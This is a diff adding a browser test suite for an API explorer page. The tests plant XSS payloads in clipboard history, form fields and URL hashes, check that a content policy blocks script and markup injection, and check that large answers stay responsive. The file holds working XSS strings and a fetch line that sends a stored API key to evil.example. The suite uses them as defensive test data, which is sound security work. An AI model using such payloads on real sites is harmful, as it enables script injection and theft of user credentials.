@@ -1,0 +1,127 @@
+// History is hostile: whatever was copied, the explorer shows it as text, keeps its pace, and sends nothing anywhere else.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { startBrowser } from '../support/browser.ts';
+import { hasPrograms } from '../support/needed-programs.ts';
+import { startService } from '../support/service.ts';
+import { put } from '../support/talk.ts';
+import { lookUp, openWithKey } from './open-explorer.ts';
+
+const hostile = [
+  '<img src=x onerror="alert(1)">',
+  '<script>alert(2)</script><iframe src="https://evil.example"></iframe>',
+  '</pre></style><svg onload=alert(3)><a href="javascript:alert(4)">x</a>',
+  '<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content="0;url=https://evil.example">',
+  '\u202eelifotua \u2066turned\u2069 around\u200b \ufeff',
+  `__proto__ {{constructor}} \${alert(5)} \u001b]8;;https://evil.example\u0007`,
+  '![x](https://evil.example/a.png) [y](javascript:alert(6)) `code`',
+];
+
+/** Characters that are not to reach the screen as they are; line breaks and tabs are the page's own. */
+const unseen = /[\p{Bidi_Control}\u200b\ufeff]|(?![\n\t])\p{Cc}/u;
+
+/** Elements that none of the explorer's own views has. */
+const foreignElements = `document.querySelectorAll(
+  '#page :is(img, script, iframe, object, embed, link, meta, style, a[href^="javascript"], a[href^="http"])').length`;
+
+test('the explorer and hostile content', async (t) => {
+  if (!hasPrograms(t, ['chromium'])) return;
+  const service = await startService(t);
+  const browser = await startBrowser(t);
+  for (const text of hostile) await put(service, text);
+
+  await t.test('nothing of what was copied is ever interpreted', async () => {
+    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(browser, service);
+    await go('listHistory');
+    assert.equal(await send(), 200);
+    const shown = await answerBody.innerText();
+    for (const text of hostile.filter((one) => one.startsWith('<')))
+      assert.ok(shown.includes(JSON.stringify(text)), text);
+    assert.ok(shown.includes('\\u202eelifotua \\u2066turned\\u2069 around\\u200b \\ufeff'));
+    assert.doesNotMatch(shown, unseen);
+    assert.equal(await lookUp(page, foreignElements), 0);
+    await page.getByRole('button', { name: 'Raw' }).click();
+    assert.doesNotMatch(await answerBody.innerText(), unseen);
+    assert.equal(await lookUp(page, foreignElements), 0);
+    assertNoFaults();
+  });
+
+  await t.test('neither are refusals, what is typed, nor what the address says', async () => {
+    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(browser, service);
+    await go('getVariable');
+    await page.getByLabel('name').fill('<img src=x onerror=alert(7)>');
+    assert.equal(await send(), 404);
+    assert.match(await answerBody.innerText(), /<img src=x onerror=alert\(7\)>/);
+    await page.getByRole('searchbox').fill('<script>alert(8)</script>');
+    await page.getByText('Nothing found').waitFor();
+    for (const hash of [
+      '<img src=x onerror=alert(9)>',
+      '%3Cscript%3Ealert(10)',
+      '%',
+      'javascript:alert(11)',
+      '__proto__',
+    ]) {
+      await page.goto(`${service.url}/docs#${hash}`);
+      await page.getByRole('heading', { level: 1, name: 'Copyloom API' }).waitFor();
+    }
+    assert.equal(await lookUp(page, foreignElements), 0);
+    assertNoFaults();
+  });
+
+  await t.test('the policy holds: no text becomes markup or script, and nothing is sent elsewhere', async () => {
+    const { page, requests } = await openWithKey(browser, service);
+    const refused = (expression: string) =>
+      page.evaluate(`(async () => { try { await ${expression}; return 'done' } catch { return 'refused' } })()`);
+    for (const attempt of [
+      'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")',
+      'Object.assign(document.createElement("div"), { innerHTML: "<b>x</b>" })',
+      'setTimeout("alert(12)")',
+      'fetch("https://evil.example/?" + localStorage.getItem("copyloom.apiKey"), { mode: "no-cors" })',
+      'navigator.serviceWorker.register("/docs")',
+    ])
+      assert.equal(await refused(attempt), 'refused', attempt);
+    const sent = requests.length;
+    await page.evaluate(`document.body.append(Object.assign(document.createElement('img'), { src: '/v1/status' }))`);
+    assert.equal(
+      await page.evaluate(`new Promise((done) => Object.assign(document.createElement('img'),
+      { onload: () => done('loaded'), onerror: () => done('blocked'), src: '/v1/history' }))`),
+      'blocked',
+    );
+    assert.equal(requests.length, sent);
+  });
+
+  await t.test('an answer of megabytes does not hold the page up', async () => {
+    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(browser, service);
+    await put(service, `${'<b>word</b> '.repeat(500_000)}end`);
+    await page.evaluate(`window.longest = 0; new PerformanceObserver((list) => {
+      for (const { duration } of list.getEntries()) window.longest = Math.max(window.longest, duration);
+    }).observe({ type: 'longtask', buffered: true })`);
+    await go('getClipboard');
+    assert.equal(await send(), 200);
+    await page.getByRole('button', { name: /more of .* characters/ }).click();
+    assert.match(await answerBody.innerText(), /"copies": 1/, 'what comes after it is still in reach');
+    await page.getByRole('button', { name: 'Raw' }).click();
+    await page.getByRole('button', { name: /more of .* characters/ }).click();
+    assert.ok((await answerBody.innerText()).length < 200_000, 'only a part is drawn');
+    const longest = Number(await lookUp(page, 'window.longest'));
+    assert.ok(longest < 1_000, `the page stood still for ${longest} ms`);
+    assert.equal(await lookUp(page, foreignElements), 0);
+    assertNoFaults();
+  });
+
+  await t.test('a long list is shown a part at a time', async () => {
+    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(browser, service);
+    await go('run');
+    const list = JSON.stringify({
+      text: Array.from({ length: 20_000 }, (_, index) => `row ${index}`).join('\n'),
+      pipeline: 'lines',
+    });
+    await page.getByRole('textbox', { name: 'Body' }).fill(list);
+    assert.equal(await send(), 200);
+    assert.match(await answerBody.innerText(), /"row 99"/);
+    assert.doesNotMatch(await answerBody.innerText(), /"row 100"/);
+    await page.getByRole('button', { name: 'Show 100 more of 19,900' }).click();
+    assert.match(await answerBody.innerText(), /"row 199"/);
+    assertNoFaults();
+  });
+});
